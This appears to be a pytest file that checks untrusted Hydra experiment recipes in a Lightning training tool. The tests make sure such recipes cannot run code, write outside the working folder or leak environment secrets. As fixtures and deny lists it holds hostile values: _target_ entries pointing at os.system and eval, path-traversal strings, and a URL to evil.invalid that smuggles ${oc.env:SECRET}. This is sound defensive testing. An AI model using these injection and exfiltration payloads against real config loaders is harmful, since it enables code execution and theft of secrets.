"""Recipes of strangers: none runs code, writes elsewhere, or takes the environment with it."""

import json
import re
from pathlib import Path

import lightning.pytorch as L
import pytest
from hydra import compose, initialize_config_dir
from hydra.errors import HydraException
from omegaconf import DictConfig, OmegaConf, open_dict
from tiny_runs import command, tiny
from torch import nn
from torch.utils.data import Dataset

from da_lightning.config import CONF_DIR, recipes, secrets
from da_lightning.config.build import build, check_targets
from da_lightning.config.jobs import Place
from da_lightning.config.roles import ROLES, class_of_role
from da_lightning.config.secrets import hidden, recorded
from da_lightning.config.sweeps import prefer_own_presets
from da_lightning.config.trust import own_packages
from da_lightning.errors import UserError
from da_lightning.private.lightning import wandb_options
from da_lightning.run import _run
from da_lightning.stages import train_in_stages

GLOBAL = "# @package _global_\n"


@pytest.fixture(autouse=True)
def _here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A working folder of its own, whose ``evil`` holds the recipe, and no trust of other packages."""
    (tmp_path / "work").mkdir()
    monkeypatch.chdir(tmp_path / "work")
    monkeypatch.delenv("DA_TRUSTED_PACKAGES", raising=False)
    monkeypatch.delenv("DA_DATA_DIR", raising=False)
    own_packages.cache_clear()
    monkeypatch.setattr(recipes, "_origin", recipes.Origin())
    monkeypatch.setattr(secrets, "_names", {})
    prefer_own_presets()  # as the command does


def composed_with(files: dict[str, str] | str, *typed: str) -> DictConfig:
    """What the command composes of a recipe, by the functions that it calls; one text is ``experiment/evil``."""
    if isinstance(files, str):
        files, typed = {"experiment/evil": GLOBAL + files}, ("experiment=evil", *typed)
    for name, content in files.items():
        file = Path("evil", f"{name}.yaml")
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(content)
    with initialize_config_dir(str(CONF_DIR), version_base="1.3"):
        return compose("config", overrides=["hydra.searchpath=[file://evil]", *typed], return_hydra_config=True)


def recipe(content: str) -> DictConfig:
    """An experiment with ``content``, without composing again: for tables, after :func:`composed_with`."""
    return OmegaConf.merge(BASE["cfg"], OmegaConf.create(content))


BASE: dict[str, DictConfig] = {}


@pytest.fixture
def _base() -> None:
    """What :func:`recipe` changes; a recipe takes part in it."""
    cfg = composed_with("x: {}")
    with open_dict(cfg):
        del cfg["hydra"]
    OmegaConf.set_struct(cfg, False)
    BASE["cfg"] = cfg


def refused(content: str) -> str:
    with pytest.raises(UserError) as caught:
        check_targets(recipe(content))
    assert "\n" not in str(caught.value)
    return str(caught.value)


def targets_of(cfg: DictConfig) -> None:
    """What the command looks at before it builds."""
    check_targets(OmegaConf.masked_copy(cfg, [str(key) for key in cfg if key != "hydra"]))


def refusal(files: dict[str, str] | str, *typed: str) -> str:
    with pytest.raises((HydraException, UserError)) as caught:
        targets_of(composed_with(files, *typed))
    sentence = str(caught.value).removeprefix("error: ")
    assert "\n" not in sentence
    return sentence


# -- targets -----------------------------------------------------------------------------------------------------------

PLACES_OF_ROLES = {role.replace(" ", "_"): base for base, role in ROLES.items()}

NO_CLASSES = [
    "lightning.pytorch.cli.instantiate_class",
    "lightning.pytorch.core.saving.save_hparams_to_yaml",
    "lightning.pytorch.utilities.model_helpers.is_overridden",
    "torchvision.io.write_file",
    "torchvision.datasets.utils.download_url",
    "torchvision.datasets.utils.extract_archive",
    "torchvision.models.get_model",
    "torch.nn.init.constant_",
    "torch.nn.utils.clip_grad_norm_",
    "torch.optim.adam.adam",
    "torch.optim.adam.torch.load",
    "torch.nn.modules.torch.hub.load",
    "torch.nn.modules",
    "da_lightning.training.results.write_metrics",
    "da_lightning.data.downloads.download",
    "da_lightning.data.downloads.unpack",
    "da_lightning.session.json.loads",
    "da_lightning.session.train_and_test",
    "da_lightning.run.main",
    "da_lightning.training.callbacks.StopAtIteration.__init__",
    "da_lightning.training.callbacks.StopAtIteration.on_train_start",
    "da_lightning.__main__.x",
    "os.system",
    "builtins.eval",
    "__main__.x",
    "torch",
    "",
]

OTHER_CLASSES = [
    "lightning.pytorch.cli.LightningCLI",
    "lightning.pytorch.cli.SaveConfigCallback",
    "lightning.pytorch.callbacks.LambdaCallback",
    "lightning.pytorch.callbacks.OnExceptionCheckpoint",
    "lightning.pytorch.callbacks.Callback",
    "lightning.pytorch.callbacks.ModelPruning",
    "lightning.pytorch.loggers.MLFlowLogger",
    "lightning.pytorch.loggers.CometLogger",
    "lightning.pytorch.loggers.WandbLogger",
    "lightning.pytorch.strategies.DeepSpeedStrategy",
    "lightning.pytorch.plugins.TorchCheckpointIO",
    "torchvision.datasets.MNIST",
    "torchvision.datasets.DatasetFolder",
    "torchmetrics.image.fid.FrechetInceptionDistance",
    "torch.nn.Linear",
    "torch.nn.modules.module.partial",
    "da_lightning.config.sweeps.Sweep",
    "da_lightning.config.sweep_table.Job",
    "da_lightning.data.downloads.Path",
    "da_lightning.data.downloads.ZipFile",
    "da_lightning.reid.camera_style.Path",
    "da_lightning.reid.translated.TranslationWriter",
    "subprocess.Popen",
    "pathlib.Path",
    "hostile.Callback",
]

PLACES = {
    "callbacks.evil": "callbacks: {{evil: {}}}",
    "data": "data: {}",
    "data.source": "data: {{source: {}}}",
    "data.tests.target": "data: {{tests: {{target: {}}}}}",
    "data.validations.x.0": "data: {{validations: {{x: [{}]}}}}",
    "data.iterations_per_epoch": "data: {{iterations_per_epoch: {}}}",
    "method": "method: {}",
    "method.network": "method: {{network: {}}}",
    "method.network.x.y": "method: {{network: {{x: {{y: {}}}}}}}",
    "method.optimizer.lr": "method: {{optimizer: {{lr: {}}}}}",
    "trainer": "trainer: {}",
    "trainer.profiler": "trainer: {{profiler: {}}}",
    "trainer.strategy": "trainer: {{strategy: {}}}",
    "trainer.plugins.0": "trainer: {{plugins: [{}]}}",
    "logger": "logger: {}",
    "selection": "selection: {}",
}


@pytest.mark.parametrize("target", [*NO_CLASSES, *OTHER_CLASSES])
def test_what_is_no_class_of_a_role_is_refused(target: str) -> None:
    Path("hostile.py").write_text("open('canary', 'w')")
    for place, base in PLACES_OF_ROLES.items():
        if base is nn.Module and target == "torch.nn.Linear":
            continue
        with pytest.raises(UserError) as caught:
            class_of_role(target, (base,), f"{place}._target_={target}")
        assert str(caught.value).startswith(f"{place}._target_={target} ")
    assert not Path("canary").exists()


@pytest.mark.usefixtures("_base")
def test_targets_are_looked_at_wherever_they_are() -> None:
    call = "{_target_: lightning.pytorch.cli.instantiate_class, class_path: os.system}"
    for place, content in PLACES.items():
        sentence = refused(content.format(call))
        assert sentence.startswith(f"{place}._target_=lightning.pytorch.cli.instantiate_class "), sentence


def test_a_class_of_another_role_is_refused() -> None:
    callback, dataset = (
        "da_lightning.training.callbacks.StopAtIteration",
        "da_lightning.segmentation.datasets.ToyStreets",
    )
    for place, base in PLACES_OF_ROLES.items():
        for target in (callback, dataset):
            if base not in (L.Callback, Dataset):
                with pytest.raises(UserError, match="wanted.*derived from"):
                    class_of_role(target, (base,), place)


def test_nothing_is_built_before_all_is_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    from da_lightning.segmentation.datasets import ToyStreets

    monkeypatch.setattr(ToyStreets, "__init__", lambda *_, **__: pytest.fail("built"))
    cfg = composed_with("data: {target: {_target_: os.system}}")
    with pytest.raises(UserError, match=r"^data\.target\._target_=os\.system "):
        build(cfg.data, "data")


@pytest.mark.usefixtures("_base")
def test_targets_are_plain_names(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("EVIL", "os.system")
    for target in ("[os.system]", "{a: os.system}", "null", "3", "'${oc.env:EVIL}'", "' os.system'"):
        assert refused(f"callbacks: {{evil: {{_target_: {target}}}}}").startswith("callbacks.evil._target_=")


@pytest.mark.usefixtures("_base")
def test_options_of_hydras_own_way_to_build_are_refused() -> None:
    for option in ("_args_: [x]", "_partial_: true", "_recursive_: false", "_convert_: all"):
        name = option.partition(":")[0]
        timer = f"callbacks: {{evil: {{_target_: lightning.pytorch.callbacks.Timer, {option}}}}}"
        assert refused(timer).startswith(f"callbacks.evil.{name} is no option")
        board = f"logger: {{_target_: lightning.pytorch.loggers.TensorBoardLogger, {option}}}"
        assert refused(board).startswith(f"logger.{name} is no option")


def test_stages_are_looked_at_before_the_first_of_them() -> None:
    cfg = composed_with("stages: {translator: {callbacks: {evil: {_target_: os.system}}}}", "method=spgan")
    with pytest.raises(UserError, match=r"^stages\.translator\.callbacks\.evil\._target_=os\.system "):
        train_in_stages(OmegaConf.masked_copy(cfg, [k for k in cfg if k != "hydra"]), Path.cwd() / "run", "spgan", "x")
    assert not Path("run").exists()


@pytest.mark.usefixtures("_base")
def test_names_of_stages_and_tests_are_parts_of_file_names() -> None:
    for name in ("../../evil", "/evil", ".evil", "a/b", "..", ""):
        with pytest.raises(UserError, match="names a folder of the run"):
            whole = "needed: true, provides: {data.root: x}, data: {_target_: a.B}, method: {_target_: a.B}"
            cfg = recipe(f"stages: {{'{name}': {{{whole}}}}}")
            train_in_stages(cfg, Path.cwd() / "run", "cbst", "toy_streets")
        street = "{_target_: da_lightning.segmentation.datasets.ToyStreets, style: camera, count: 1}"
        with pytest.raises(UserError, match="which becomes a file's name"):
            build(recipe(f"data: {{tests: {{'{name}': {street}}}}}").data, "data")


# -- the user's own packages -------------------------------------------------------------------------------------------


def trusting(monkeypatch: pytest.MonkeyPatch, value: str) -> tuple[str, ...]:
    monkeypatch.setenv("DA_TRUSTED_PACKAGES", value)
    own_packages.cache_clear()
    return own_packages()


def test_trusted_packages_fill_roles_and_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
    assert trusting(monkeypatch, " tiny_runs, , tiny_translators ,") == (
        "da_lightning",
        "tiny_runs",
        "tiny_translators",
    )
    targets_of(composed_with("callbacks: {mine: {_target_: tiny_runs.WriteChecksum}}"))
    assert "is no class" in refusal("callbacks: {mine: {_target_: tiny_runs.command, arguments: [x], folder: x}}")
    assert "data set is wanted there" in refusal("data: {source: {_target_: tiny_runs.WriteChecksum}}")
    assert "is pathlib" in refusal("callbacks: {mine: {_target_: tiny_runs.Path}}")
    assert "outside the trusted packages" in refusal("callbacks: {mine: {_target_: tiny_runsx.WriteChecksum}}")


def test_trust_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    own_packages()
    monkeypatch.setenv("DA_TRUSTED_PACKAGES", "tiny_runs")
    assert "outside the trusted packages" in refusal("callbacks: {mine: {_target_: tiny_runs.WriteChecksum}}")


@pytest.mark.parametrize("entry", ["os", "builtins", "subprocess", "__main__", "a b", "tiny_runs.__main__", "../x"])
def test_what_is_no_package_with_classes_is_left_out(entry: str, monkeypatch: pytest.MonkeyPatch, caplog) -> None:
    assert trusting(monkeypatch, f"{entry},tiny_runs") == ("da_lightning", "tiny_runs")
    assert entry in caplog.text and "left out" in caplog.text


def test_a_package_that_is_not_there_is_named(monkeypatch: pytest.MonkeyPatch, caplog) -> None:
    assert "nowhere" in trusting(monkeypatch, "nowhere,torch.nowhere,torch.nn")
    assert "names nowhere, which" in caplog.text and "torch.nowhere" in caplog.text and "torch.nn," not in caplog.text


# -- what Hydra would act on -------------------------------------------------------------------------------------------

HYDRA = {
    "hydra.job.env_set.DA_TRUSTED_PACKAGES": "hydra: {job: {env_set: {DA_TRUSTED_PACKAGES: os}}}",
    "hydra.job.env_copy": "hydra: {job: {env_copy: [SECRET]}}",
    "hydra.job.name": "hydra: {job: {name: ../x}}",
    "hydra.job.config.override_dirname.item_sep": "hydra: {job: {config: {override_dirname: {item_sep: /../}}}}",
    "hydra.callbacks.evil._target_": "hydra: {callbacks: {evil: {_target_: torch.load, f: x}}}",
    "hydra.callbacks.claim._target_": "hydra: {callbacks: {claim: {_target_: os.system}}}",
    "hydra.callbacks": "hydra: {callbacks: null}",
    "hydra.job_logging.handlers.file.filename": "hydra: {job_logging: {handlers: {file: {filename: /tmp/x}}}}",
    "hydra.job_logging.handlers.x.class": "hydra: {job_logging: {handlers: {x: {class: logging.FileHandler}}}}",
    "hydra.job_logging.handlers.x.()": "hydra: {job_logging: {handlers: {x: {(): os.system}}}}",
    "hydra.hydra_logging.formatters.x.()": "hydra: {hydra_logging: {formatters: {x: {(): os.system}}}}",
    "hydra.run.dir": "hydra: {run: {dir: /tmp/x}}",
    "hydra.run": "hydra: {run: '${evil}'}\nevil: {dir: /tmp/x}",
    "hydra.sweep.dir": "hydra: {sweep: {dir: ../x}}",
    "hydra.sweep.subdir": "hydra: {sweep: {subdir: ../../x}}",
    "hydra.output_subdir": "hydra: {output_subdir: /tmp/x}",
    "hydra.launcher._target_": "hydra: {launcher: {_target_: x.Y}}",
    "hydra.launcher.setup": "hydra: {launcher: {setup: [evil]}}",
    "hydra.sweeper._target_": "hydra: {sweeper: {_target_: x.Y}}",
    "hydra.sweeper.storage": "hydra: {sweeper: {storage: 'sqlite:////tmp/x.db'}}",
    "hydra.sweeper.sampler._target_": "hydra: {sweeper: {sampler: {_target_: os.system}}}",
    "hydra.sweeper.params.hydra.run.dir": "hydra: {sweeper: {params: {hydra.run.dir: x}}}",
    "hydra.sweeper.params.++hydra.job.env_set.X": "hydra: {sweeper: {params: {++hydra.job.env_set.X: x}}}",
    "hydra.sweeper.params. hydra.run.dir": "hydra: {sweeper: {params: {' hydra.run.dir': x}}}",
    "hydra.sweeper.params.hydra/launcher": "hydra: {sweeper: {params: {hydra/launcher: joblib}}}",
    "hydra.sweeper.params.data.root": "hydra: {sweeper: {params: {data.root: x}}}",
    "hydra.sweeper.params.method.x": "hydra: {sweeper: {params: {method.x: ../../x}}}",
    "hydra.help.template": "hydra: {help: {template: x}}",
    "hydra.hydra_help.template": "hydra: {hydra_help: {template: x}}",
    "hydra.runtime.choices.method": "hydra: {runtime: {choices: {method: ../../x}}}",
    "hydra.searchpath": "hydra: {searchpath: ['pkg://antigravity']}",
    "hydra.verbose": "hydra: {verbose: ['${oc.env:SECRET}']}",
    "hydra": "hydra: '${evil}'\nevil: {run: {dir: /tmp/x}}",
}


@pytest.mark.parametrize("key", HYDRA)
def test_hydras_options_are_refused(key: str) -> None:
    content = OmegaConf.to_container(OmegaConf.create(HYDRA[key]))["hydra"]
    with pytest.raises(UserError, match=rf"evil\.yaml sets {re.escape(key)}"):
        recipes.check_hydra_options(content, "evil.yaml")


FOLDERS = [
    "~/x", "a/../../x", "../x", ".git", "a/.ssh", "${oc.env:HOME}/x", "${evil}", "${oc.decode:/tmp/x}", "./..",
    "$HOME/x",
    "${now:.}${now:.}/x", "x\n/../..", "link/x", "link/${now:%Y}", "${hydra:runtime.cwd}/../x", "${oc.env:DA_X,/tmp}/x",
]  # fmt: skip


@pytest.mark.parametrize("folder", FOLDERS)
def test_run_folders_lie_in_the_working_folder(folder: str, tmp_path: Path) -> None:
    Path("link").symlink_to(tmp_path)
    with pytest.raises(UserError, match=r"evil.yaml sets hydra\.run\.dir"):
        recipes.check_hydra_options({"run": {"dir": folder}}, "evil.yaml")


FILES = {
    "a group of Hydra's": ({"hydra/job_logging/evil": "root: {handlers: [x]}"}, "hydra/job_logging=evil"),
    "a launcher": ({"hydra/launcher/evil": "_target_: x.Y"}, "hydra/launcher=evil"),
    "an override": (
        {
            "experiment/evil": f"{GLOBAL}defaults: [override /hydra/launcher: evil]",
            "hydra/launcher/evil": "_target_: x.Y",
        },
        "experiment=evil",
    ),
    "an experiment": ({"experiment/evil": GLOBAL + HYDRA["hydra.callbacks.claim._target_"]}, "experiment=evil"),
    "a header": ({"x/evil": "# @package hydra.job.env_set\nDA_TRUSTED_PACKAGES: os"}, "+x=evil"),
    "a header of brackets": ({"x/evil": "# @package hydra[job]\nenv_set: {A: b}"}, "+x=evil"),
    "a default": ({"x/evil": "defaults: [y@_global_.hydra.run: evil]", "x/y/evil": "dir: /tmp/x"}, "+x=evil"),
    "ours, elsewhere": (
        {"x/evil": "defaults: [/data@_global_.hydra.callbacks.x: edges2shoes]\n_global_: {}"}, "+x=evil",
    ),
    "a launcher as a callback": (
        {"x/evil": "defaults: [/hydra/launcher@_global_.hydra.callbacks.x: joblib]"}, "+x=evil",
    ),
    "an optional one": (
        {"e/evil": "defaults: [optional /no: ../../../x]\nhydra: {run: {dir: 'a/${hydra:runtime.choices.no}'}}"},
        "+e=evil",
    ),
    "the way up": ({"../outside": "hydra: {run: {dir: /tmp/x}}"}, "experiment=../../work/outside"),
    "the way up from Hydra's": ({"../outside": "_target_: x"}, "hydra/launcher=../../../../../../../../../../../tmp/x"),
}  # fmt: skip


@pytest.mark.parametrize("way", FILES)
def test_every_way_to_hydra_is_closed(way: str) -> None:
    files, typed = FILES[way]
    sentence = refusal(files, typed)
    assert "hydra" in sentence or "outside of its folder" in sentence, sentence


def test_what_cannot_harm_is_left_to_recipes(monkeypatch: pytest.MonkeyPatch) -> None:
    cfg = composed_with(
        "defaults: [override /hydra/sweeper: optuna]\n"
        "hydra:\n  run: {dir: 'mine/${hydra.runtime.choices.method}/${now:%Y-%m-%d}'}\n"
        "  sweep: {subdir: '${hydra:job.num}'}\n"
        "  output_subdir: .hydra\n  sweeper: {n_trials: 3, storage: 'sqlite:///a/study.db', study_name: mine,\n"
        "    params: {method.portion: 'interval(0.1,0.5)', +method.new: 'choice(a,b)'}}\n"
        "data: {source: {count: 7}}\ncallbacks: {checkpoint: {filename: '{epoch}-mine'}}\n"
        "trainer: {profiler: {_target_: lightning.pytorch.profilers.PyTorchProfiler, filename: a, dirpath: profiles}}\n"
    )
    assert cfg.hydra.sweeper.n_trials == 3 and cfg.data.source.count == 7
    targets_of(cfg)


def test_the_command_line_is_the_users_word(tmp_path: Path) -> None:
    cfg = composed_with(
        "x: {}",
        "hydra.run.dir=/tmp/x",
        "+hydra.job.env_set.A=b",
        "+callbacks.write={_target_: da_lightning.reid.camera_style.WriteCameraPair, folder: /tmp/x}",
    )
    assert cfg.hydra.run.dir == "/tmp/x"
    targets_of(cfg)


# -- where recipes may write -------------------------------------------------------------------------------------------

WRITER = "_target_: da_lightning.reid.camera_style.WriteCameraPair"
PROFILERS = "lightning.pytorch.profilers."
WRITTEN = {
    "callbacks.write.folder": "callbacks: {{write: {{" + WRITER + ", folder: {}}}}}",
    "callbacks.checkpoint.dirpath": "callbacks: {{checkpoint: {{dirpath: {}}}}}",
    "callbacks.checkpoint.filename": "callbacks: {{checkpoint: {{filename: {}}}}}",
    "trainer.default_root_dir": "trainer: {{default_root_dir: {}}}",
    "trainer.profiler.dirpath": "trainer: {{profiler: {{_target_: " + PROFILERS + "SimpleProfiler, dirpath: {}}}}}",
    "trainer.profiler.filename": "trainer: {{profiler: {{_target_: " + PROFILERS + "AdvancedProfiler, filename: {}}}}}",
    "logger.save_dir": "logger: {{save_dir: {}}}",
    "logger.name": "logger: {{name: {}}}",
    "logger.tags": "logger: {{tags: [a, {}]}}",
}  # fmt: skip
PATHS = [
    "/tmp/x", "../x", "a/../../x", "~/x", "s3://x/y", "'file::/x'", "'${oc.env:HOME}/x'", "'${evil}'", "link/x",
    "'$HOME/x'",
    "!!python/object/apply:pathlib.PosixPath [/tmp/x]",
]  # fmt: skip


@pytest.mark.usefixtures("_base")
def test_what_leads_out_of_the_working_folder_is_refused(tmp_path: Path) -> None:
    Path("link").symlink_to(tmp_path)
    for path in PATHS:
        for key, content in WRITTEN.items():
            sentence = refused("evil: /tmp/x\n" + content.format(path))
            assert sentence.startswith(f"{key}=") and "leads out of the working folder" in sentence, sentence


FETCHED = "_target_: da_lightning.data.downloads.Fetched, url: 'http://evil.invalid/x.zip', download: true"


def test_downloads_of_recipes_go_to_the_usual_folder() -> None:
    BASE["cfg"] = composed_with("defaults: [override /data: edges2shoes]", "method=munit")
    for root in ("~/.config/x", "/tmp/x", "../x", "torch", "hydra_plugins", "data/../torch", ".", "data/../.."):
        sentence = refused(f"data: {{root: {root}, download: true}}")
        assert sentence.startswith("data.source.root.folder=") and "type data.root=" in sentence
        sentence = refused(f"data: {{root: x, source: {{root: {{{FETCHED}, folder: {root}}}}}}}")
        assert sentence.startswith("data.source.root.folder=")
    check_targets(recipe("data: {root: data/x, download: true}"))
    BASE["cfg"] = composed_with("defaults: [override /data: edges2shoes]", "method=munit", "data.root=/tmp/x")
    check_targets(recipe("data: {download: true}"))


def test_a_recipe_named_as_a_package_is_no_leave_to_write_there() -> None:
    files = {
        "experiment/torch": GLOBAL + "defaults: [override /data: edges2shoes]\ndata: {root: torch, download: true}"
    }
    assert "would be filled" in refusal(files, "experiment=torch", "method=munit")


# -- secrets -----------------------------------------------------------------------------------------------------------


def test_downloads_send_no_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    files = "files: {url: 'http://evil.invalid/${evil}.zip'}"
    nested = f"data: {{root: data/x, download: true, {files}}}\nevil: '${{oc.env:SECRET}}'"
    sentence = refusal("defaults: [override /data: edges2shoes]\n" + nested, "method=munit")
    assert "would send an environment variable" in sentence and "hunter2" not in sentence


NUMBERS = ["one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]


def test_the_environment_is_recorded_by_its_names(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2: [a1b2, 12345678]")
    monkeypatch.setenv("SHORT", "7")
    monkeypatch.setenv("DA_DATA_DIR", "/sets")
    cfg = composed_with(
        "one: '${oc.env:SECRET}'\ntwo: 'x/${one}/y'\nthree: '${oc.decode:${one}}'\nfour: '${oc.env:DA_DATA_DIR}/x'\n"
        "five: '${oc.env:NOTHING,${one}}'\nsix: ['${oc.env:SHORT}']\nseven: '${oc.env:NOTHING,null}'\n"
        "eight: '${oc.select:one}'\nnine: {a: {b: '${..x}'}, x: '${one}'}"
    )
    content = recorded(
        OmegaConf.masked_copy(cfg, ["one", "two", "three", "four", "five", "six", "seven", "eight", "nine"])
    )
    assert not {"hunter2", "a1b2", "12345678"} & set(json.dumps(content).replace('"', " ").split()), content
    assert "hunter2" not in json.dumps(content)
    assert content["two"] == "x/${oc.env:SECRET}/y" and content["six"] == ["${oc.env:SHORT}"]
    assert content["four"] == "/sets/x" and content["seven"] is None
    assert cfg.one.startswith("hunter2")  # the run itself has them
    assert "hunter2" not in hidden("error: data.root=/x/hunter2: [a1b2, 12345678] does not exist")


def test_checkpoints_and_loggers_hold_no_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    monkeypatch.setenv("WANDB_ENTITY", "my-team")
    cfg = composed_with("logger: {name: 'run-${oc.env:SECRET}', tags: ['${oc.env:SECRET}']}")
    logger = build(cfg.logger, "logger", save_dir="x")
    options = wandb_options(logger)
    assert options["entity"] == "my-team"
    assert "hunter2" not in str(options) and "run-${oc.env:SECRET}" in str(options)
    assert recorded(cfg.logger)["entity"] == "${oc.env:WANDB_ENTITY}"
    monkeypatch.setenv("SECRET", "Adam")
    cfg = composed_with("method: {optimizer: {name: '${oc.env:SECRET}'}}", "method=unit")
    module = build(cfg.method, "method")
    for parameters in (module.hparams, module.hparams_initial):
        assert parameters["optimizer"]["name"] == "${oc.env:SECRET}"


# -- the command -------------------------------------------------------------------------------------------------------


def evil(folder: Path, content: str, name: str = "experiment/evil") -> None:
    file = folder / "evil" / f"{name}.yaml"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(content)


@pytest.mark.slow
def test_the_command_runs_nothing_of_a_recipe(tmp_path: Path) -> None:
    """One start for each way in: an experiment, a primary configuration, a sweep's job, --help, a pickle, a plugin."""
    bomb = "open('canary', 'w')"
    (tmp_path / "hydra_plugins").mkdir()
    (tmp_path / "hydra_plugins" / "evil.py").write_text(bomb)
    (tmp_path / "bomb.py").write_text(bomb)
    evil(tmp_path, GLOBAL + "hydra: {callbacks: {evil: {_target_: bomb.X}}}")
    evil(tmp_path, GLOBAL + "callbacks: {evil: {_target_: bomb.X}}", "experiment/other")
    evil(tmp_path, "defaults: [_self_]\nhydra: {searchpath: ['pkg://bomb']}", "config")
    named = tmp_path / "evil" / "experiment" / "evil.yaml"
    starts = {
        ("--config-dir", "evil", "experiment=evil"): "sets hydra.callbacks.evil._target_",
        ("--config-dir", "evil", "experiment=evil", "--help"): "sets hydra.callbacks.evil._target_",
        ("--config-path", str(tmp_path / "evil")): "sets hydra.searchpath",
        ("--experimental-rerun", "x.pickle"): "reads a pickle",
        ("--config-dir", "evil", "-m", "experiment=other,evil", *tiny("cbst")): "sets hydra.callbacks.evil._target_",
    }
    assert named.is_file()
    for arguments, words in starts.items():
        run = command(arguments, tmp_path, DA_TRUSTED_PACKAGES="")
        assert run.returncode != 0 and "Traceback" not in run.stderr, run.stderr
        assert run.stderr.startswith("error: ") and words in run.stderr, run.stderr
        assert not (tmp_path / "canary").exists(), arguments
    assert not (tmp_path / "outputs").exists()


@pytest.mark.slow
def test_a_runs_records_hold_no_environment(tmp_path: Path) -> None:
    evil(
        tmp_path,
        GLOBAL + "note: 'a ${oc.env:SECRET} b'\nlogger: {name: '${oc.env:SECRET}', group: 'x${oc.env:SECRET}'}\n"
        "callbacks: {progress: null}",
    )
    options = [option for option in tiny("cbst") if option != "logger=csv"]
    arguments = ["--config-dir", "evil", "experiment=evil", *options, "method.max_iters=2", "test=false"]
    run = command(arguments, tmp_path, SECRET="hunter2-hunter2")
    assert run.returncode == 0, run.stdout + run.stderr
    files = [file for file in (tmp_path / "outputs").rglob("*") if file.is_file()]
    assert any(file.suffix == ".wandb" for file in files)
    for file in files:
        assert b"hunter2" not in file.read_bytes(), file
    assert "hunter2" not in run.stdout + run.stderr
    assert not any("hunter2" in str(file) for file in files)


def test_an_error_holds_no_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    cfg = composed_with("resume: 'x${oc.env:SECRET}'")
    with pytest.raises(HydraException, match=r"found resume=x\$\{oc\.env:SECRET\}"):
        _run(OmegaConf.masked_copy(cfg, [str(key) for key in cfg if key != "hydra"]), Place(Path(), {}))
